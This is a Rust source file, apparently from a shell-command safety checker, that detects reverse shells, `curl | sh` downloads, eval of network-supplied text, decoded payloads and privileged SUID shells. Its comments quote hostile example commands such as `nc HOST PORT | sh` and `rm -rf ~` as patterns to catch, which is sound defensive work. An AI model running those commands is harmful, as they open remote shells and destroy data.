//! What runs other code: shells, scripts by path, stdin, `eval`, `source`,
//! `xargs`, `find -exec`, and downloads run as programs.

use super::*;

impl<'c> Walker<'c> {
    /// `bash -c STR`, `bash FILE`, `... | bash`, `bash <<EOF`.
    pub(super) fn shell(
        &mut self,
        site: Site<'_>,
        name: &str,
        rest: &[Arg<'_>],
        vals: &[&str],
        wrapped: bool,
    ) {
        // `bash -p`: privileged mode keeps a set-uid copy's root (the last
        // step of the SUID-shell escalations).
        let privileged = vals
            .iter()
            .take_while(|v| v.starts_with('-') && !v.starts_with("--"))
            .any(|v| v.contains('p'));
        if privileged {
            self.find(
                SelfEsc,
                Medium,
                format!("starts {name} in privileged mode (a set-uid shell keeps root)"),
                &site.cmd.text,
            );
        }
        // `bash -n`: a syntax check reads the script and runs none of it.
        if agentgate_commands::check_only(paths::basename(name), vals) {
            return;
        }
        let mut i = 0;
        let mut command_string = false;
        let mut read_stdin = false;
        while let Some(v) = vals.get(i) {
            if *v == "--" {
                i += 1;
                break;
            }
            if name == "busybox" && i == 0 && !v.starts_with('-') {
                // `busybox sh -c ...`
                i += 1;
                continue;
            }
            if v.starts_with('-') || v.starts_with('+') {
                if !v.starts_with("--") && v.contains('c') && v.starts_with('-') {
                    command_string = true;
                }
                if !v.starts_with("--") && v.contains('s') && v.starts_with('-') {
                    read_stdin = true;
                }
                // A cluster ending in `o` or `O` takes the next word too
                // (`bash -euo pipefail -c CMD`), as `shell_script_at` reads.
                let cluster_takes =
                    !v.starts_with("--") && v.len() > 2 && (v.ends_with('o') || v.ends_with('O'));
                if cluster_takes
                    || matches!(*v, "-o" | "+o" | "--rcfile" | "--init-file" | "-O" | "+O")
                {
                    // `bash --rcfile FILE -i`: a start-up file the line
                    // wrote is judged by what it holds.
                    let file = vals.get(i + 1).copied().unwrap_or("");
                    if matches!(*v, "--rcfile" | "--init-file") {
                        if let Some(g) = self.written(file) {
                            self.script(&g.payload, site.depth + 1);
                        }
                    }
                    i += 1;
                }
                i += 1;
                continue;
            }
            break;
        }
        // A shell reading its commands from a pipeline that has a network
        // connection in it (`nc HOST PORT | sh`, `openssl s_client ... |
        // sh | openssl s_client ...`, `sh -i 2>&1 | nc HOST PORT >fifo`):
        // a reverse shell, whichever side of the shell the connection is.
        if !command_string && rest.get(i).is_none() && site.cmd.pipeline.len > 1 {
            let peers: Vec<&SimpleCommand> = site
                .analysis
                .commands
                .iter()
                .filter(|c| {
                    c.pipeline.id == site.cmd.pipeline.id
                        && c.pipeline.index != site.cmd.pipeline.index
                        && c.depth == site.cmd.depth
                })
                .collect();
            if let Some(client) = peers.iter().find_map(|c| self.network_client(c)) {
                self.find(
                    Exfil,
                    Critical,
                    format!("wires {name} to a network connection ({client}): a reverse shell"),
                    &site.cmd.text,
                );
            }
        }
        // A shell given nothing to run but wired to the terminal or to
        // duplicated descriptors (`/bin/sh </dev/tty`, `exec sh 0<&2 1>&2`,
        // `sh -i`): the GTFOBins way to hand someone an interactive shell.
        // Input from a descriptor the line filled (`exec 3<<< TEXT; bash
        // <&3`): the text is the script.
        let fd_script = site
            .cmd
            .redirects
            .iter()
            .filter(|r| r.kind == RedirectKind::Duplicate && r.fd.unwrap_or(0) == 0)
            .find_map(|r| {
                // `<&$v` after `exec {v}<<< TEXT` (mod.rs).
                let named = || {
                    let t = r.target.as_ref()?;
                    self.resolve_vars(&t.raw)?.trim().parse::<i32>().ok()
                };
                r.dup_from
                    .or_else(named)
                    .and_then(|n| self.fd_text.get(&n))
                    .cloned()
            });
        if let Some(script) = fd_script.filter(|_| !command_string && rest.get(i).is_none()) {
            self.script(&script, site.depth + 1);
            return;
        }
        if !command_string && rest.get(i).is_none() {
            let tty = site.cmd.redirects.iter().any(|r| {
                r.kind == RedirectKind::Duplicate
                    || r.target
                        .as_ref()
                        .is_some_and(|t| t.value_or_raw() == "/dev/tty")
            });
            // `sh -i < /dev/null`: input from a file, not the terminal.
            let stdin_file = site.cmd.redirects.iter().any(|r| {
                r.kind == RedirectKind::Read
                    && r.fd.unwrap_or(0) == 0
                    && r.target
                        .as_ref()
                        .is_some_and(|t| t.value_or_raw() != "/dev/tty")
            });
            let interactive = !stdin_file
                && vals
                    .iter()
                    .any(|v| v.starts_with('-') && !v.starts_with("--") && v.contains('i'));
            if tty || interactive {
                self.find(
                    Obf,
                    Medium,
                    format!("spawns an interactive {name} wired to the terminal"),
                    &site.cmd.text,
                );
            }
        }
        if command_string {
            if let Some(s) = rest.get(i) {
                // `sh -c 'eval "$0"' WORDS`: the first word after the script
                // is its `$0`, put where the script uses it.
                let body = s.v();
                let mut with_arg0 = None;
                if let Some(arg0) = rest.get(i + 1).filter(|a| !a.dynamic()) {
                    let others = ["$1", "${1", "$2", "$@", "${@", "$*", "${*"]
                        .iter()
                        .any(|p| body.contains(p));
                    if !s.dynamic() && (body.contains("$0") || body.contains("${0}")) {
                        let raw0 = &arg0.word.raw;
                        let line = body
                            .replace("\"$0\"", raw0)
                            .replace("\"${0}\"", raw0)
                            .replace("${0}", raw0)
                            .replace("$0", raw0);
                        if !others {
                            self.script(&line, site.depth + 1);
                            return;
                        }
                        // `sh -c '"$0" "$@"' rm -rf ~`: `$0` in place, the
                        // rest as the positional parameters below.
                        with_arg0 = Some(line);
                    }
                }
                // `sh -c SCRIPT ARG0 ARG1...`: the words after the script are
                // its `$0`, `$1`...; `sh -c "$1" sh 'make'` runs `make`.
                let words = rest.get(i + 2..).filter(|p| {
                    (!p.is_empty() || with_arg0.is_some())
                        && p.iter()
                            .all(|a| !a.dynamic() || self.known_value(&a.word.raw).is_some())
                });
                let params: Option<Vec<String>> =
                    words.map(|p| p.iter().map(|a| a.v().to_owned()).collect());
                // Substituted into the script as written (their own quoting).
                let raw_params: Option<Vec<String>> =
                    words.map(|p| p.iter().map(|a| a.word.raw.clone()).collect());
                if let (Some(params), Some(raw_params)) = (params, raw_params) {
                    let raw = s.word.raw.trim_matches('"');
                    let index = raw
                        .strip_prefix('$')
                        .map(|n| n.trim_start_matches('{').trim_end_matches('}'))
                        .and_then(|n| n.parse::<usize>().ok())
                        .filter(|n| *n >= 1);
                    if let Some(script) = index.and_then(|n| params.get(n - 1)) {
                        self.script(script, site.depth + 1);
                        return;
                    }
                    let saved = self.positional.replace(raw_params);
                    match &with_arg0 {
                        Some(line) => self.script(line, site.depth + 1),
                        None => self.script_arg(site, s, name),
                    }
                    self.positional = saved;
                    return;
                }
                self.script_arg(site, s, name);
            }
            return;
        }
        if let Some(file) = rest.get(i).filter(|_| !read_stdin) {
            self.run_file(site, file.v(), name);
            self.download_into_script(site, file.v(), name);
            return;
        }
        let fed = site.cmd.pipeline.index > 0
            || site
                .cmd
                .redirects
                .iter()
                .any(|r| r.input_text.is_some() || r.kind == RedirectKind::Read);
        let via = site
            .cmd
            .argv
            .first()
            .map_or("", |w| paths::basename(w.value_or_raw()));
        // A shell started inside a container runs there (its reach of the
        // host is judged by the container reading).
        if wrapped && !fed && !agentgate_commands::CONTAINER_CLIS.contains(&via) {
            self.find(
                Obf,
                Medium,
                format!("spawns an interactive shell through {via}"),
                &site.cmd.text,
            );
        }
        self.stdin_program(site, name, true);
    }

    /// A script handed over as one argument (`bash -c`, `eval`, `su -c`).
    pub(super) fn script_arg(&mut self, site: Site<'_>, arg: &Arg<'_>, via: &str) {
        if !arg.dynamic() {
            self.script(arg.v(), site.depth + 1);
            return;
        }
        if self.function_parameter(site, &arg.word.raw) {
            return;
        }
        // `sh -c "$c"` in a loop whose values the line shows: each value
        // is the script.
        if let Some(values) = self.loop_alternatives(&arg.word.raw) {
            for v in values {
                self.script(&v, site.depth + 1);
            }
            return;
        }
        if let Some(resolved) = self.resolve_vars(&arg.word.raw) {
            self.script(&resolved, site.depth + 1);
            return;
        }
        self.substituted_program(site, via, &arg.word.raw);
    }

    /// `f() { eval "$1"; }` walked at its definition: the script is the
    /// argument of each call, judged there (`f 'make test'` runs `eval
    /// 'make test'`), so the definition itself asks nothing.
    fn function_parameter(&self, site: Site<'_>, raw: &str) -> bool {
        let param_var =
            var_key(raw).is_some_and(|k| self.param_vars.contains(k.trim_start_matches('$')));
        self.positional.is_none() && (is_positional_ref(raw) || param_var) && in_function_body(site)
    }

    /// A program text produced by substitutions: who produced it?
    pub(super) fn substituted_program(&mut self, site: Site<'_>, via: &str, raw: &str) {
        let children = children(site);
        // `sh -c "$(cat)" <<< TEXT`: the substitution reads the command's
        // own standard input, which the line shows.
        let reads_stdin = |c: &&SimpleCommand| {
            c.redirects.is_empty()
                && matches!(
                    c.argv
                        .iter()
                        .map(Word::value_or_raw)
                        .collect::<Vec<_>>()
                        .as_slice(),
                    ["cat"] | ["cat", "-"] | ["cat", "/dev/stdin"]
                )
        };
        if let [one] = children.as_slice() {
            let whole = raw.trim_matches('"');
            if reads_stdin(one) && whole.starts_with("$(") && whole.ends_with(')') {
                if let Some(text) = stdin_text(site) {
                    self.script(&text, site.depth + 1);
                    return;
                }
            }
        }
        // `$(< FILE)`, `$(cat FILE...)`: the text of files the line wrote
        // (several joined as cat joins them: a payload split in two).
        let read_back = children
            .iter()
            .filter(|c| c.argv.is_empty())
            .flat_map(|c| c.redirects.iter())
            .filter(|r| r.kind == RedirectKind::Read)
            .find_map(|r| self.written(r.target.as_ref()?.value_or_raw()))
            .map(|g| g.payload)
            .or_else(|| {
                children.iter().find_map(|c| match c.argv.split_first() {
                    Some((cat, files)) if cat.value_or_raw() == "cat" && !files.is_empty() => files
                        .iter()
                        .map(|f| self.written(f.value_or_raw()).map(|g| g.payload))
                        .collect::<Option<Vec<String>>>()
                        .map(|parts| parts.concat()),
                    _ => None,
                })
            });
        if let Some(payload) = read_back {
            self.script(&payload, site.depth + 1);
            return;
        }
        if let Some(url) = children.iter().find_map(|c| fetch_address(c)) {
            self.rce_from(site, url, via);
            return;
        }
        // `eval $(dig +short TXT x.example)`, `eval $(finger x@host)`,
        // `sh -c "$(nc host port)"`: commands chosen by a server.
        let from_network = children.iter().find_map(|c| {
            self.network_client(c).or_else(|| {
                c.name()
                    .map(|n| paths::basename(n.value_or_raw()))
                    .filter(|n| agentgate_commands::NETWORK_READERS.contains(n))
                    .map(str::to_owned)
            })
        });
        if let Some(client) = from_network {
            self.out.effects.untrusted_input = true;
            self.find(
                Rce,
                Critical,
                format!("runs in {via} commands a network server answers ({client})"),
                &site.cmd.text,
            );
            return;
        }
        if let Some(payload) = decode_chain(&children) {
            // Text the line shows (`<(echo ...)`) is judged as it is; only
            // a payload that went through a decoder is hidden.
            let encoded = children.iter().any(|c| {
                c.name().is_some_and(|n| {
                    !matches!(paths::basename(n.value_or_raw()), "echo" | "printf" | "cat")
                })
            });
            if encoded {
                self.find(
                    Obf,
                    High,
                    format!("hands {via} a decoded payload"),
                    &site.cmd.text,
                );
            }
            // The payload in its place in the script's text (`sh -c
            // "$(echo curl URL) | sh"` is `curl URL | sh`).
            let text = super::quoted::script_text(raw)
                .filter(|t| !super::quoted::only_substitutions(t))
                .and_then(|t| super::quoted::with_output(&t, &payload));
            self.script(text.as_deref().unwrap_or(&payload), site.depth + 1);
            return;
        }
        if children.iter().any(|c| {
            c.name()
                .is_some_and(|n| decode::is_decoder_name(paths::basename(n.value_or_raw())))
        }) {
            self.find(
                Obf,
                High,
                format!("hands {via} an encoded payload"),
                &site.cmd.text,
            );
            return;
        }
        if children.is_empty() && raw.contains('$') {
            self.find(
                Unverifiable,
                Medium,
                format!("runs a {via} program held in a variable, which cannot be checked"),
                &site.cmd.text,
            );
        } else if let Some(text) = super::quoted::script_text(raw)
            .filter(|t| !children.is_empty() && !super::quoted::only_substitutions(t))
        {
            // A script with substitutions in it (`sh -c "rm -rf ~; echo
            // $(date)"`): its own text is read, the substitutions left for
            // the inner shell (the outer one pastes their output in; who
            // produced it was judged above). Session 31: these fell
            // through here unread.
            self.script(&text, site.depth + 1);
        } else if !children.is_empty() {
            // `eval "$(get_config)"`, `source <(X)`: passed (session 42).
            self.produced_script(site, via, &children);
        }
    }

    /// A program that reads its script from standard input.
    pub(super) fn stdin_program(&mut self, site: Site<'_>, via: &str, is_shell: bool) {
        let text = &site.cmd.text;
        // Here-documents and here-strings.
        for r in &site.cmd.redirects {
            if let Some(input) = self.here_input(r) {
                let input = input.as_ref();
                if is_shell {
                    self.script(input, site.depth + 1);
                } else {
                    // `python3 - WORDS <<'PY' ... sys.argv[1]`: the words
                    // after `-` are the code's argument list.
                    let words: Vec<&str> = site.cmd.argv.iter().map(|w| w.value_or_raw()).collect();
                    let after = words
                        .iter()
                        .position(|w| *w == "-")
                        .and_then(|d| words.get(d + 1..))
                        .unwrap_or(&[]);
                    let base = paths::basename(via)
                        .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                    let code = super::codeargs::argv_elements(base, after, input.to_owned());
                    self.code(site, via, &code);
                }
                return;
            }
            if r.kind == RedirectKind::Read {
                if let Some(t) = &r.target {
                    self.run_file(site, t.value_or_raw(), via);
                    return;
                }
            }
        }
        let pos = site.cmd.pipeline;
        if pos.index == 0 || pos.len < 2 {
            return;
        }
        let upstream = upstream(site);
        if let Some(url) = upstream.iter().find_map(|c| fetch_address(c)) {
            self.rce_from(site, url, via);
            return;
        }
        // The fetcher named through a variable (`x=curl; $x URL | sh`).
        let via_var = upstream.iter().find_map(|c| {
            let program = self.program_through_variable(c)?;
            let (prog, extra) = program.split_first()?;
            FETCHERS
                .contains(&paths::basename(prog))
                .then(|| {
                    c.argv
                        .iter()
                        .skip(1)
                        .map(Word::value_or_raw)
                        .chain(extra.iter().map(String::as_str))
                        .find(|v| net::looks_like_url(v))
                        .map(str::to_owned)
                })
                .flatten()
        });
        if let Some(url) = via_var {
            self.rce_from(site, &url, via);
            return;
        }
        // `cat <<EOF | sh`: the here-document is the script.
        if let Some(payload) = self.cat_of_here_input(&upstream) {
            if is_shell {
                self.script(&payload, site.depth + 1);
            } else {
                self.code(site, via, &payload);
            }
            return;
        }
        // `c=CMD; echo "$c" | bash`: echo of values the line gave.
        if let [echo] = upstream.as_slice() {
            let words: Vec<&Word> = echo.argv.iter().collect();
            if let [name, args @ ..] = words.as_slice() {
                if name.value_or_raw() == "echo"
                    && args.iter().any(|w| w.is_dynamic())
                    && !args.iter().any(|w| w.value_or_raw().starts_with('-'))
                {
                    let resolved: Option<Vec<String>> =
                        args.iter().map(|w| self.word_value(w)).collect();
                    if let Some(resolved) = resolved {
                        let payload = resolved.join(" ");
                        if is_shell {
                            self.script(&payload, site.depth + 1);
                        } else {
                            self.code(site, via, &payload);
                        }
                        return;
                    }
                }
            }
        }
        if let Some(payload) = decode_chain(&upstream) {
            let encoded = upstream.iter().any(|c| {
                c.name().is_some_and(|n| {
                    let n = paths::basename(n.value_or_raw());
                    n != "echo" && n != "printf" && n != "cat"
                })
            });
            if encoded {
                self.find(
                    Obf,
                    High,
                    format!("pipes a decoded payload into {via}"),
                    text,
                );
            }
            if is_shell {
                self.script(&payload, site.depth + 1);
            } else {
                self.code(site, via, &payload);
            }
            return;
        }
        if upstream.iter().any(|c| {
            c.name().is_some_and(|n| {
                decode::is_decoder_name(paths::basename(n.value_or_raw()))
                    && !matches!(paths::basename(n.value_or_raw()), "printf" | "tr")
            })
        }) {
            self.find(
                Obf,
                High,
                format!("pipes an encoded payload into {via}"),
                text,
            );
            return;
        }
        // `echo "rm -rf ~ # $(date)" | sh`: echo's words with their
        // substitutions kept, read as `sh -c` reads such a script.
        if let Some(script) = is_shell
            .then(|| super::quoted::echoed_script(&upstream))
            .flatten()
        {
            self.script(&script, site.depth + 1);
            return;
        }
        self.produced_script(site, via, &upstream);
    }

    /// A public exploit run by its published name (`python 42315.py rhost`,
    /// `./CVE-2021-4034.sh`): the name is what is known of it.
    pub(super) fn runs_exploit(&mut self, file: &str, text: &str) {
        if let Some(row) = agentgate_commands::exploit_script(file) {
            self.find(Rce, Medium, format!("runs {file}, {}", row.what), text);
            return;
        }
        // One copied or renamed earlier in the line (flow.rs).
        let abs = paths::absolute(file, file, file.starts_with('~'), &self.ctx);
        let copied = abs
            .and_then(|a| self.copied_from(&a))
            .and_then(|p| Some((p.to_owned(), agentgate_commands::exploit_script(p)?)));
        if let Some((source, row)) = copied {
            self.find(
                Rce,
                Medium,
                format!("runs {file}, a copy of {source}: {}", row.what),
                text,
            );
        }
    }

    /// A script file run by a shell or interpreter.
    pub(super) fn run_file(&mut self, site: Site<'_>, file: &str, via: &str) {
        let text = &site.cmd.text;
        if self.share_script(site, file, via) {
            return;
        }
        // `bash /dev/fd/3 3<<< TEXT`, `exec 4<<< TEXT; . /proc/self/fd/4`:
        // a descriptor that holds text the line shows.
        let fd = file
            .strip_prefix("/dev/fd/")
            .or_else(|| file.strip_prefix("/proc/self/fd/"))
            .and_then(|n| n.parse::<i32>().ok())
            .filter(|n| *n > 2);
        if let Some(fd) = fd {
            let held = site
                .cmd
                .redirects
                .iter()
                .find(|r| r.fd == Some(fd))
                .and_then(|r| r.input_text.clone())
                .or_else(|| self.fd_text.get(&fd).cloned());
            if let Some(held) = held {
                if matches!(via, "source" | ".") {
                    self.script_same_shell(&held, site.depth + 1);
                } else {
                    self.script(&held, site.depth + 1);
                }
                return;
            }
        }
        if is_stdin_path(file) {
            // `source /dev/stdin <<< TEXT`: TEXT runs in this shell.
            if matches!(via, "source" | ".") {
                if let Some(text) = stdin_text(site) {
                    // `<<< "$(X completion bash)"`: X's own set-up text,
                    // as `source <(X ...)` is (opsdocsg, session 56).
                    let setup = super::quoted::only_substitutions(text.trim_matches('"'))
                        && super::produced::prints_setup(&children(site));
                    if !setup {
                        self.script_same_shell(&text, site.depth + 1);
                    }
                }
                return;
            }
            return self.stdin_program(site, via, SHELLS.contains(&via));
        }
        // A program whose name claims it is data (ATT&CK T1036.008, and
        // T1036.007's double extension `report.pdf.sh`), even one the line
        // wrote: the name is the technique (Atomic's tests run echo).
        if masquerades(file) {
            self.find(
                Obf,
                Medium,
                format!("runs {file} with {via}, a program named as if it were data"),
                text,
            );
        }
        self.runs_exploit(file, text);
        if self.runs_download(file, text) {
            return;
        }
        if let Some(Generated {
            payload, decoded, ..
        }) = self.written(file)
        {
            // Writing a script and running it is ordinary work; what it
            // does is what matters. Hiding it behind a decoder is not.
            if decoded {
                self.find(
                    Obf,
                    High,
                    format!("runs {file}, written from a decoded payload"),
                    text,
                );
            }
            // `. FILE` and `source FILE` run it in this shell.
            if matches!(via, "source" | ".") {
                self.script_same_shell(&payload, site.depth + 1);
            } else if SHELLS.contains(&via) {
                self.script(&payload, site.depth + 1);
            } else {
                let before = self.out.findings.len();
                match knowledge::lang_of(via) {
                    Some(lang) => self.run_value(site, via, "", &payload, lang),
                    None => self.code(site, via, &payload),
                }
                // Code that runs processes, opens the network, deletes or
                // writes files, and that the scan could not pin down, is
                // asked about: it was written a moment ago by the agent.
                let f = code::scan(&payload);
                // Code whose only actions are commands it shows as
                // literals (`os.execute("make")`) was judged by them.
                let shown = (self.escapes_shown || crate::codecalls::runs_only_literals(&payload))
                    && !(f.network || f.deletes || f.writes_files);
                let able = f.runs_commands || f.network || f.deletes || f.writes_files;
                if able && !shown && self.out.findings.len() == before {
                    self.find(
                        Obf,
                        Medium,
                        format!(
                            "runs {file}, a {via} script it just wrote that runs programs, uses the network or changes files"
                        ),
                        text,
                    );
                }
            }
            return;
        }
        if file == "<(...)" {
            self.substituted_program(site, via, file);
        } else {
            // `sh /tmp/x.sh` as `/tmp/x.sh` is.
            self.temp_program_not_made(site, file);
        }
    }

    pub(super) fn eval(&mut self, site: Site<'_>, rest: &[Arg<'_>], vals: &[&str]) {
        if rest.iter().all(|a| !a.dynamic()) {
            let joined = vals.join(" ");
            self.script_same_shell(&joined, site.depth + 1);
            return;
        }
        let raw: Vec<&str> = rest.iter().map(|a| a.word.raw.as_str()).collect();
        if let [one] = raw.as_slice() {
            if self.function_parameter(site, one) {
                return;
            }
        }
        // `eval "$c"` where `c` takes values the line shows (`for c in
        // 'make a' 'make b'`): each value is the script.
        if let Some(values) = raw
            .as_slice()
            .first()
            .filter(|_| raw.len() == 1)
            .and_then(|one| self.loop_alternatives(one))
        {
            for v in values {
                self.script_same_shell(&v, site.depth + 1);
            }
            return;
        }
        if let Some(resolved) = self.resolve_vars(&raw.join(" ")) {
            self.script_same_shell(&resolved, site.depth + 1);
            return;
        }
        // `eval "CMD $(sub)"`: bash substitutes, then evaluates; the text
        // with its substitutions in place is the script (the substitution
        // is judged where it stands).
        if let [one] = raw.as_slice() {
            let inner = one
                .strip_prefix('"')
                .and_then(|o| o.strip_suffix('"'))
                .unwrap_or(one);
            let mut rest_text = inner.to_owned();
            while let Some(start) = rest_text.find("$(") {
                let Some(len) = rest_text.get(start..).and_then(|r| r.find(')')) else {
                    break;
                };
                rest_text.replace_range(start..=start + len, "x");
            }
            // `eval "$(ssh-agent -s)"` runs the substitution's output: judged
            // below as a program text some command produced.
            let names_program = inner.trim_start().starts_with("$(");
            if inner.contains("$(") && !names_program && !rest_text.contains(['$', '`']) {
                self.script_same_shell(inner, site.depth + 1);
                return;
            }
        }
        // Text only known at run time, evaluated in this shell: it may set
        // any variable or the positional parameters, as a sourced file may.
        self.sourced = true;
        self.substituted_program(site, "eval", &raw.join(" "));
    }

    pub(super) fn source(&mut self, site: Site<'_>, rest: &[Arg<'_>]) {
        self.sourced = true;
        if let Some(file) = rest.first() {
            let v = file.v();
            if file.word.glob {
                self.find(
                    Obf,
                    Medium,
                    format!("sources a file a glob picks ({v}), hiding which"),
                    &site.cmd.text,
                );
            }
            if v == "<(...)" || file.word.has_command_substitution {
                self.substituted_program(site, "source", &file.word.raw);
            } else {
                self.run_file(site, v, "source");
            }
        }
    }
}

/// The index of a shell's `-c` script in `vals` (`bash -lc SCRIPT`,
/// `sh -e -c SCRIPT`): the first operand after a short-option cluster
/// holding `c`.
pub(super) fn shell_script_at(vals: &[&str]) -> Option<usize> {
    let mut command_string = false;
    let mut i = 0;
    while let Some(v) = vals.get(i) {
        if *v == "--" {
            return command_string.then_some(i + 1);
        }
        if v.starts_with('-') || v.starts_with('+') {
            command_string |= v.starts_with('-') && !v.starts_with("--") && v.contains('c');
            // Options that take the next word (bash(1): `-o NAME`, `-O
            // NAME`, `--rcfile FILE`): `bash -O extglob -c CMD`.
            let takes = matches!(*v, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file")
                || (!v.starts_with("--") && v.len() > 2 && (v.ends_with('o') || v.ends_with('O')));
            i += if takes { 2 } else { 1 };
            continue;
        }
        return command_string.then_some(i);
    }
    None
}
